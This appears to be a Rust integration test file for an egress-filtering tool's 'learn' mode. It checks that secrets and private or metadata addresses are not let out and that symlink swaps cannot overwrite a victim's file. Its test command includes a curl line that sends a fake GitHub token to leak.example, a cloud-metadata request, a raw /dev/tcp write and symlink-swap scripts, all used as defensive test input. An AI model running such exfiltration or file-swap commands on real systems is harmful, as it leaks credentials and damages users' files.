//! `outgate learn -- COMMAND`: a run in which everything public is let through, what it is
//! marked by, and what does not leave by it all the same.

use std::fs;
use std::process::Command;

use outgate_harness::audit::{of_kind, records, text};
use outgate_harness::origin::Origin;
use outgate_harness::{Identity, Sandbox, lab_tests};

/// What a command does, by fair means and foul.
const COMMAND: &str = r#"
for n in 1 2 3; do curl -sS "http://open.example:8099/a/$n?key=secret"; done
printf 'k=ghp_%s' 0123456789abcdefghijABCDEFGHIJ2tcQKc | curl -sS --data-binary @- http://leak.example:8099/d
curl -sS http://leak.example:8099/fine
curl -sS http://denied.example:8099/x
curl -sS --max-time 5 http://127.0.0.1:8099/inside
curl -sS --max-time 5 http://169.254.169.254/latest/meta-data
curl -sS --max-time 5 http://10.0.0.1/private
echo raw > /dev/tcp/raw.example/5432
true
"#;

lab_tests! {
    fn what_is_learnt_is_written_through_no_link_of_the_command(lab) {
        let origin = Origin::start(8099);
        for identity in Identity::all() {
            let (work, victim) = (lab.folder("work", identity), lab.folder("victim", identity));
            let secret = "name = \"secret-of-the-user\"\n";
            for option in ["-o", "--merge"] {
                for (what, swap) in [
                    ("a link", "ln -sf $0/file learnt.toml"),
                    ("a directory", "mv sub away; ln -s $0 sub"),
                ] {
                    let file = if what == "a link" { "learnt.toml" } else { "sub/file" };
                    fs::create_dir_all(work.join("sub")).expect("a directory");
                    std::os::unix::fs::chown(work.join("sub"), Some(identity.uid()), Some(identity.uid())).ok();
                    fs::write(victim.join("file"), secret).expect("a file");
                    let script = format!("{swap}; curl -sS http://open.example:8099/a > /dev/null");
                    let command = ["sh".to_owned(), "-c".to_owned(), script, victim.display().to_string()];
                    let outcome = Sandbox::new(lab, identity)
                        .subcommand("learn")
                        .option("-w", &work.to_string_lossy())
                        .option(option, file)
                        .pin("open.example=127.0.0.1")
                        .run(&command);
                    let what = format!("{option} {what} {identity:?}");
                    assert_eq!(fs::read_to_string(victim.join("file")).expect("a file"), secret, "{what} {outcome}");
                    assert_eq!(fs::read_dir(&victim).expect("a directory").count(), 1, "{what} {outcome}");
                    assert!(!outcome.stdout.contains("secret-of-the-user"), "{what} {outcome}");
                    assert!(outcome.stderr.contains("1 line learnt"), "{what} {outcome}");
                    let place = if file == "learnt.toml" { "learnt.toml" } else { "away/file" };
                    let learnt = fs::read_to_string(work.join(place)).unwrap_or_default();
                    assert!(learnt.contains("http://open.example:8099/a"), "{what} {outcome}");
                    fs::remove_dir_all(work.join("sub")).ok();
                    for name in ["sub", "learnt.toml"] {
                        fs::remove_file(work.join(name)).ok();
                    }
                    fs::remove_dir_all(work.join("away")).ok();
                }
            }
        }
        assert!(origin.connections() > 0);
    }

    fn what_a_run_did_is_learnt_and_no_secret_leaves(lab) {
        let origin = Origin::start(8099);
        for identity in Identity::all() {
            let place = |name: &str| lab.folder("records", identity).join(name);
            let (record, policy) = (place("learning.jsonl"), place("learnt.toml"));
            let mut sandbox = Sandbox::new(lab, identity)
                .subcommand("learn")
                .deny("denied.example")
                .option("--audit", &record.to_string_lossy())
                .option("-o", &policy.to_string_lossy());
            for host in ["open", "leak", "denied", "raw"] {
                sandbox = sandbox.pin(&format!("{host}.example=127.0.0.1"));
            }
            let script = ["bash", "-c", COMMAND].map(str::to_owned);
            let outcome = sandbox.run(&script);
            assert_eq!(outcome.code, Some(0), "{outcome}");
            for said in [
                "outgate: note: learning: everything public is let through and recorded",
                "outgate: learning: everything public was let through",
                "learnt.toml: 2 lines learnt",
            ] {
                assert!(outcome.stderr.contains(said), "{said}: {outcome}");
            }
            let lines: Vec<String> =
                origin.arrivals().iter().map(|one| one.line().to_owned()).collect();
            assert!(lines.iter().any(|line| line.starts_with("GET /a/3")), "{lines:?}");
            for kept in ["/d ", "/x ", "/inside", "/latest", "/private"] {
                assert!(!lines.iter().any(|line| line.contains(kept)), "{kept}: {lines:?}");
            }
            let records = records(&record);
            let start = of_kind(&records, "start");
            assert_eq!(start.iter().map(|one| text(one, "mode")).collect::<Vec<_>>(), ["learning"]);
            let learnt = fs::read_to_string(&policy).expect("a policy");
            let rules: Vec<&str> = learnt.lines().filter(|line| line.starts_with("rule = ")).collect();
            assert_eq!(
                rules,
                [
                    r#"rule = "GET http://open.example:8099/a/*?key=*""#,
                    r#"rule = "tcp://raw.example:5432""#,
                ],
                "{learnt}"
            );
            for left in ["leak.example:8099/fine", "denied.example", "127.0.0.1:8099", "169.254.169.254", "10.0.0.1"] {
                let is_told = learnt.lines().any(|line| line.starts_with("#   ") && line.contains(left));
                assert!(is_told, "{left}: {learnt}");
            }
            assert!(!learnt.contains("secret") && !learnt.contains("ghp_"), "{learnt}");
        }
    }

    fn a_run_that_learns_is_marked_while_it_runs(lab) {
        let identity = Identity::Own;
        let running = Sandbox::new(lab, identity)
            .subcommand("learn")
            .option("--name", "pupil")
            .with_input()
            .start(&["bash", "-c", "echo ready; read end"].map(str::to_owned));
        running.wait_for("ready");
        let mut ps = Command::new(lab.tools.programs.join("outgate"));
        let output = ps.arg("ps").output().expect("outgate starts");
        let listed = String::from_utf8_lossy(&output.stdout).into_owned();
        let row = listed.lines().find(|line| line.starts_with("pupil")).unwrap_or_default();
        assert!(row.contains("learning"), "{listed}");
        let outcome = running.finish();
        assert!(outcome.stderr.contains("nothing to learn"), "{outcome}");
    }
}
